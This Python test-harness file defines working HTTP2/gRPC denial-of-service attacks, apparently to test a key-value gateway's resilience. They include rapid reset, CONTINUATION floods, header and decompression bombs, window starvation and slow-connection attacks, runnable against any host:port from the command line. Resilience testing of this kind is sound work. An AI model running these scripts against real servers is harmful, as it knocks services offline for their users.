"""What a hostile client does to a gRPC port, one entry each: `ATTACKS`.

Every attack is a script for raw connections (`raw_http2`); run this file to carry one out in a process of its own:

    python tests/harness/attacks.py rapid-reset 127.0.0.1:7000 --seconds 5 --full

It prints as JSON how often it saw what. An attack says in `bites` what the server must have answered at least once:
without that, nothing was attacked.
"""

from __future__ import annotations

import argparse
import json
import sys
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import cramjam
from flotta_proto.kvdb import gateway_pb2
from raw_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    Connection,
    Hears,
    Script,
    call,
    call_headers,
    data,
    drive,
    frame,
    indexing,
    literal,
    message,
    reset,
    settings,
    window_update,
)

GET = call_headers("/kvdb.gateway.KvGateway/Get")
PUT = call_headers("/kvdb.gateway.KvGateway/Put")
WATCH = call_headers("/grpc.health.v1.Health/Watch")
BIG_KEY, BIG_VALUE_BYTES = b"big", 256 << 10
"""What a target should hold, for the attacks that ask for much and take nothing."""
MIB = 1 << 20
CLAIMED_BYTES = 16 * MIB
BOMB_BYTES = {"gzip": 64 * MIB, "deflate": 64 * MIB, "zstd": 64 * MIB, "snappy": 20 * MIB}  # each fits a window packed
WINDOW_MAX = (1 << 31) - 1
HELLO = PREFACE + settings()
CUT = ("closed by the server",)


def ids() -> Iterator[int]:
    """The numbers of a client's streams."""
    return iter(range(1, 1 << 31, 2))


def forever(unit: bytes, start: bytes = HELLO) -> Script:
    """The same bytes again and again."""
    chunk = unit * max(1, (32 << 10) // len(unit))

    def script(_: Connection) -> Iterator[bytes]:
        yield start
        while True:
            yield chunk

    return script


def once(*parts: bytes) -> Script:
    """These bytes, and then silence."""
    return lambda _: iter([b"".join(parts)])


def open_streams(headers: bytes, streams: int, *, end: bool = False) -> Script:
    """Calls that are begun and never go on."""

    def script(connection: Connection) -> Iterator[bytes]:
        yield HELLO
        while not connection.told:
            yield b""
        for stream, _ in zip(ids(), range(min(streams, connection.streams_max)), strict=False):
            begun = frame(HEADERS, END_HEADERS, stream, headers)
            yield begun + data(stream, message(b""), end=True) if end else begun

    return script


def half_messages(connection: Connection) -> Iterator[bytes]:
    """On as many streams as it may have: a message of 16 MiB, of which as much comes as the windows allow."""
    yield HELLO
    while not connection.told:
        yield b""
    prefix = message(b"", claimed_bytes=CLAIMED_BYTES)
    for stream, _ in zip(ids(), range(min(1_000, connection.streams_max)), strict=False):
        sent = len(prefix)
        yield frame(HEADERS, END_HEADERS, stream, PUT) + data(stream, prefix)
        connection.window -= len(prefix)
        while (allowed := min(16_384, connection.window, connection.stream_window(stream) - sent)) > 0:
            connection.window -= allowed
            sent += allowed
            yield data(stream, bytes(allowed))
        while connection.window <= 16:
            yield b""


def rapid_reset(body: bytes | None) -> Script:
    """Streams opened and reset at once; with a body they are whole calls that the server has begun to serve."""

    def script(_: Connection) -> Iterator[bytes]:
        yield HELLO
        for stream in ids():
            begun = frame(HEADERS, END_HEADERS, stream, GET) if body is None else call(stream, GET, body)
            yield begun + reset(stream)

    return script


def made_you_reset(_: Connection) -> Iterator[bytes]:
    """Whole calls, each followed by a frame that makes the *server* reset the stream while its call is served."""
    yield HELLO
    for stream in ids():
        yield call(stream, GET, get_request(b"k")) + window_update(stream, 0)


def beyond_the_limit(connection: Connection) -> Iterator[bytes]:
    """Far more streams at once than the server said it takes."""
    yield HELLO
    while not connection.told:
        yield b""
    for stream in ids():
        yield frame(HEADERS, END_HEADERS, stream, PUT)


def beyond_the_window(connection: Connection) -> Iterator[bytes]:
    """A message of 16 MiB at once, whatever the server is ready to take."""
    yield HELLO + frame(HEADERS, END_HEADERS, 1, PUT)
    yield data(1, message(b"", claimed_bytes=CLAIMED_BYTES))
    for _ in range(CLAIMED_BYTES // 16_384):
        yield data(1, bytes(16_384))


def takes_nothing(initial_window: int, calls: int) -> Script:
    """Asks for big values and never takes them: no window given, or the socket left full."""

    def script(connection: Connection) -> Iterator[bytes]:
        yield PREFACE + settings((INITIAL_WINDOW_SIZE, initial_window)) + window_update(0, WINDOW_MAX - 65_535)
        for stream, _ in zip(ids(), range(calls), strict=False):
            yield call(stream, GET, get_request(BIG_KEY))

    return script


def header_bomb(_: Connection) -> Iterator[bytes]:
    """A field of 4,000 bytes sent once, then named 10,000 times: 40 MB of metadata out of 10 KB."""
    yield HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + indexing("x-fill", "y" * 4_000))
    for stream in list(range(3, 2_000, 2)):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 10_000)


def compressed(encoding: str, packed: bytes, at_once: int) -> Script:
    """The same compressed message, in so many calls at once."""
    headers = call_headers("/kvdb.gateway.KvGateway/Get", grpc_encoding=encoding)
    body = message(packed, compressed=True)

    def script(connection: Connection) -> Iterator[bytes]:
        yield HELLO
        for opened, stream in enumerate(ids()):
            while opened - connection.ended >= at_once or connection.window < len(body):
                yield b""
            connection.window -= len(body)
            yield frame(HEADERS, END_HEADERS, stream, headers) + data(stream, body, end=True)

    return script


def packed(encoding: str, size: int) -> bytes:
    zeros = bytes(size)
    if encoding == "gzip":
        return zlib.compress(zeros, 9, 31)
    if encoding == "deflate":
        return zlib.compress(zeros, 9)
    if encoding == "zstd":
        return bytes(cramjam.zstd.compress(zeros))
    return bytes(cramjam.snappy.compress(zeros))


def calls_at_once(outstanding: int) -> Script:
    """Ordinary reads, so many at a time, as fast as they are answered."""
    body = get_request(b"k")

    def script(connection: Connection) -> Iterator[bytes]:
        yield HELLO
        while not connection.told:
            yield b""
        most = min(outstanding, connection.streams_max)
        for opened, stream in enumerate(ids()):
            while opened - connection.ended >= most:
                yield b""
            yield call(stream, GET, body)

    return script


def dribble(connection: Connection) -> Iterator[bytes]:
    """The preface, a byte at a time."""
    for n in range(len(HELLO)):
        for _pause in range(8):
            yield b""
        yield HELLO[n : n + 1]


def endless_headers(unit: bytes) -> Script:
    start = HELLO + frame(HEADERS, 0, 1, GET)
    return forever(frame(CONTINUATION, 0, 1, unit), start)


def get_request(key: bytes) -> bytes:
    return gateway_pb2.GetRequest(key=key).SerializeToString()


CLIENT_HELLO_BEGUN = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40)  # of 512 bytes, which never come


@dataclass(frozen=True)
class Attack:
    """One kind of bad client. Pairs are (small, full) sizes."""

    name: str
    what: str
    script: Callable[[], Script]
    connections: tuple[int, int]
    hears: Hears = "answers"
    comes_again: bool = True
    bites: tuple[str, ...] = ()

    def run(self, address: tuple[str, int], seconds: float, *, full: bool) -> dict[str, int]:
        found = drive(
            address,
            self.script(),
            connections=self.connections[full],
            seconds=seconds,
            hears=self.hears,
            comes_again=self.comes_again,
        )
        return dict(sorted(found.items()))


def bomb(encoding: str) -> Attack:
    return Attack(
        f"{encoding}-bomb",
        f"messages of {BOMB_BYTES[encoding] >> 20} MiB packed with {encoding}",
        lambda: compressed(encoding, packed(encoding, BOMB_BYTES[encoding]), 8),
        (2, 8),
        bites=("grpc-status 8",),
    )


ATTACKS = (
    Attack("streams", "10,000 calls begun, no message", lambda: open_streams(PUT, 500), (20, 20)),
    Attack("watches", "10,000 health watches", lambda: open_streams(WATCH, 500, end=True), (4, 20)),
    Attack("streams-over-limit", "more streams than the server allows", lambda: beyond_the_limit, (2, 8)),
    Attack("half-message", "as much of 16 MiB messages as windows allow, no more", lambda: half_messages, (16, 200)),
    Attack(
        "half-frame",
        "half a DATA frame, then silence",
        lambda: once(HELLO, frame(HEADERS, END_HEADERS, 1, PUT), frame(DATA, 0, 1, bytes(16_384))[:100]),
        (200, 4_000),
        hears="reads",
    ),
    Attack(
        "half-headers",
        "HEADERS without their end, then silence",
        lambda: once(HELLO, frame(HEADERS, 0, 1, GET)),
        (200, 4_000),
        hears="reads",
    ),
    Attack(
        "continuations",
        "CONTINUATION frames without end",
        lambda: endless_headers(literal("x-fill", "y" * 1_000)),
        (4, 16),
        bites=CUT,
    ),
    Attack("empty-continuations", "the same, empty", lambda: endless_headers(b""), (4, 16)),
    Attack("header-bomb", "40 MB of metadata in 10 KB", lambda: header_bomb, (4, 16)),
    *(bomb(encoding) for encoding in ("gzip", "deflate", "zstd", "snappy")),
    Attack(
        "dense-messages",
        "messages of 16 MiB in 16 KiB, 1,000 at once",
        lambda: compressed("gzip", packed("gzip", CLAIMED_BYTES), 250),
        (1, 4),
    ),
    Attack("rapid-reset", "whole calls, each reset at once", lambda: rapid_reset(get_request(b"k")), (4, 16)),
    Attack("rapid-reset-half", "calls begun and reset", lambda: rapid_reset(None), (4, 16)),
    Attack("made-you-reset", "calls that the server must reset itself", lambda: made_you_reset, (4, 16)),
    Attack("beyond-window", "16 MiB whatever the window", lambda: beyond_the_window, (4, 16)),
    Attack(
        "gives-no-window",
        "asks for big values, never grants window",
        lambda: takes_nothing(0, 400),
        (4, 32),
        hears="reads",
    ),
    Attack(
        "reads-nothing",
        "asks for big values, leaves them in the socket",
        lambda: takes_nothing(WINDOW_MAX, 400),
        (4, 32),
        hears="nothing",
    ),
    Attack(
        "pings", "PING without end, answers unread", lambda: forever(frame(PING, 0, 0, bytes(8))), (4, 16), "nothing"
    ),
    Attack(
        "settings", "SETTINGS without end, answers unread", lambda: forever(settings((4, 65_535))), (4, 16), "nothing"
    ),
    Attack(
        "empty-data",
        "empty DATA frames without end",
        lambda: forever(frame(DATA, 0, 1), HELLO + frame(HEADERS, END_HEADERS, 1, PUT)),
        (4, 16),
    ),
    Attack("priorities", "PRIORITY without end", lambda: forever(frame(PRIORITY, 0, 1, bytes(4) + b"\x10")), (4, 16)),
    Attack("windows", "WINDOW_UPDATEs of one byte", lambda: forever(window_update(0, 1)), (4, 16)),
    Attack("acks", "acknowledgements of nothing", lambda: forever(frame(4, ACK, 0)), (4, 16)),
    Attack("slow-preface", "the first 33 bytes, two a second", lambda: dribble, (200, 4_000), "reads"),
    Attack("silence", "connections that say nothing", lambda: once(b""), (500, 8_000), "reads"),
    Attack("tls-hello", "a TLS handshake never finished", lambda: once(CLIENT_HELLO_BEGUN), (200, 4_000), "reads"),
    Attack("random", "other bytes", lambda: forever(bytes(range(256)), b""), (4, 16)),
    Attack("flood", "reads, thousands at once", lambda: calls_at_once(250), (8, 64), bites=("grpc-status 0",)),
)
BY_NAME = {attack.name: attack for attack in ATTACKS}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=list(BY_NAME))
    parser.add_argument("address", help="host:port")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--full", action="store_true")
    given = parser.parse_args()
    host, _, port = given.address.rpartition(":")
    found = BY_NAME[given.name].run((host, int(port)), given.seconds, full=given.full)
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    main()
